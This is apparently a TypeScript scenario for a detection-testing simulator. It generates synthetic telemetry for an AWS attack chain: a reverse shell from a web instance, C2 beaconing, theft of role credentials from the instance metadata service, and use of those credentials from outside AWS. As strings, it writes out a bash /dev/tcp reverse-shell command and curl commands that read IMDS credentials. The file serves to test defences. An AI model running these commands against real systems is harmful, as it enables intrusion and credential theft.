import { attackTooling } from "./attacker.ts";
import { defineScenario } from "./define.ts";

/**
 * A web instance is exploited into a reverse shell; the attacker beacons to a C2 server, reads the
 * instance role's credentials from the metadata service and uses them from outside AWS.
 */
export default defineScenario({
  id: "ec2-reverse-shell-imds-theft",
  title: "Reverse shell on a web instance, C2 beacon, then IMDS credential theft",
  kind: "attack",
  description:
    "Remote code execution in the web application opens a reverse shell to a VPS; a beacon keeps calling a C2 domain; the shell fetches the role credentials from the instance metadata service (IMDS) and the attacker uses them from their own infrastructure for discovery and data access.",
  references: [
    "https://hackingthe.cloud/aws/exploitation/ec2-metadata-ssrf/ (Hacking the Cloud: stealing EC2 metadata credentials)",
    "https://docs.aws.amazon.com/guardduty/latest/ug/guardduty_finding-types-ec2.html#backdoor-ec2-ccactivityb (GuardDuty Backdoor:EC2/C&CActivity.B)",
    "https://unit42.paloaltonetworks.com/compromised-cloud-compute-credentials/ (Unit 42, 2022: compromised cloud compute credentials)",
  ],
  expectedSequenceType: "AttackSequence:EC2/CompromisedInstanceGroup",
  maxDurationHours: 14,
  stages: [
    { id: "execution", tactic: "TA0002", technique: "T1059.004", description: "the application spawns an interactive shell connected back to the attacker" },
    { id: "command-and-control", tactic: "TA0011", technique: "T1071.001", description: "a beacon resolves a C2 domain and calls it every minute or so" },
    { id: "credential-access", tactic: "TA0006", technique: "T1552.005", description: "the shell reads the role credentials from IMDS" },
    { id: "use-outside", tactic: "TA0007", technique: "T1580", description: "the stolen credentials are used from outside AWS" },
  ],
  run(ctx) {
    const { rng } = ctx;
    const roles = ctx.principals({ persona: "ec2-app", withInstance: true });
    const victim = rng.pick(roles);
    const instance = ctx.instances({}).find((i) => i.id === victim.instanceId)!;
    const host = ctx.onHost(instance);
    const c2 = ctx.origin(rng.pick(["vps", "vps", "vpn"] as const));
    const c2Domain = `${rng.pick(["cdn", "update", "telemetry", "sync"])}-${rng.hex(5)}.${rng.pick(["xyz", "top", "online", "site"])}`;
    ctx.actor(victim.arn);
    let t = ctx.start;
    const port = rng.pick([4444, 443, 8443, 9001]);
    const shell = `bash -c bash -i >& /dev/tcp/${c2}/${port} 0>&1`;
    ctx.stage("execution", () => {
      host.run(t, shell, { user: "app", parent: "java" });
      host.connect(t + 300, c2, port, { bytesOut: rng.int(2_000, 20_000), bytesIn: rng.int(1_000, 10_000), process: shell });
      host.run(t + rng.between(20, 120) * 1000, rng.pick(["id", "uname -a", "cat /etc/os-release"]), { parent: "bash" });
    });
    t += rng.between(60, 900) * 1000;
    ctx.stage("command-and-control", () => {
      const beacon = `/tmp/.cache/${rng.pick(["dbus", "sysupdate", "kthreadd"])} --interval 60`;
      host.write(t, beacon.split(" ")[0]!, { process: shell });
      host.run(t + 2000, beacon, { parent: "bash" });
      const { answers } = host.resolve(t + 500, c2Domain, { answers: [c2], process: beacon });
      // A jittered beacon about once a minute while the operator prepares the next step.
      const beacons = rng.int(60, 300);
      for (let m = 0; m < beacons; m++) {
        t += rng.between(50, 70) * 1000;
        host.connect(t, answers[0]!, 443, { bytesOut: rng.int(300, 900), bytesIn: rng.int(200, 700), process: beacon, hostname: c2Domain });
      }
    });
    t += rng.between(20, 120) * 1000;
    ctx.stage("credential-access", () => {
      host.run(t, "curl -s -X PUT http://169.254.169.254/latest/api/token -H X-aws-ec2-metadata-token-ttl-seconds: 21600", { parent: "bash" });
      host.connect(t + 100, "169.254.169.254", 80, { process: "curl" });
      host.run(t + 2000, `curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/${victim.roleName}`, { parent: "bash" });
      host.connect(t + 2100, "169.254.169.254", 80, { process: "curl" });
    });
    t += rng.between(300, 4 * 3600) * 1000;
    ctx.stage("use-outside", () => {
      const attacker = ctx.as(victim, rng.chance(0.6) ? c2 : ctx.origin("vps"), attackTooling(rng, ["cli", "boto3"]), t);
      attacker.call("sts:GetCallerIdentity", t);
      for (const api of rng.sample(["s3:ListBuckets", "ec2:DescribeInstances", "iam:ListRoles", "secretsmanager:ListSecrets", "ssm:DescribeParameters"], rng.int(2, 5))) {
        attacker.call(api, (t += rng.between(3, 60) * 1000));
      }
    });
  },
});
